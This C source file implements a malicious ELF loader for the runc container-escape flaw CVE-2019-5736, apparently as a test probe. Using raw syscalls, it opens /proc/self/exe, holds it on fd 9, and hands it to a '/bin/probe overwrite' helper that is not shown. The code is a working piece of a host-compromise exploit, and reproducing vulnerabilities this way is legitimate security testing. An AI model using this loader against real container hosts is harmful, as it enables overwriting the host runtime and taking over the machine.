/* SPDX-License-Identifier: MIT */
/*
 * evil_loader.c - a dynamic loader as a container root would write it: keeps
 * the program that it is to load open and executes `probe overwrite` on it
 * (CVE-2019-5736).  No libc, no relocations.
 */
#include <sys/syscall.h>

static long call(long n, long a, long b, long c, long d)
{
#if defined(__x86_64__)
	long result;
	register long r10 __asm__("r10") = d;

	__asm__ volatile("syscall"
	                 : "=a"(result)
	                 : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10)
	                 : "rcx", "r11", "memory");
	return result;
#elif defined(__aarch64__)
	register long x8 __asm__("x8") = n;
	register long x0 __asm__("x0") = a;
	register long x1 __asm__("x1") = b;
	register long x2 __asm__("x2") = c;
	register long x3 __asm__("x3") = d;

	__asm__ volatile("svc 0"
	                 : "+r"(x0)
	                 : "r"(x8), "r"(x1), "r"(x2), "r"(x3)
	                 : "memory");
	return x0;
#else
#error "write this for the new architecture"
#endif
}

#if defined(__x86_64__)
/* Nobody called this, so the stack is aligned otherwise than in a function. */
__attribute__((force_align_arg_pointer))
#endif
void _start(void);

void _start(void)
{
	char exe[] = "/proc/self/exe";
	char program[] = "/bin/probe";
	char word[] = "overwrite";
	char handle[] = "/proc/self/fd/9";
	char *argv[4];
	char *envp[1];
	long fd = call(SYS_openat, -100, (long)exe, 0, 0);

	argv[0] = program;
	argv[1] = word;
	argv[2] = handle;
	argv[3] = 0;
	envp[0] = 0;
	call(SYS_dup3, fd, 9, 0, 0);
	call(SYS_execve, (long)program, (long)argv, (long)envp, 0);
	call(SYS_exit, 77, 0, 0, 0);
	__builtin_unreachable();
}
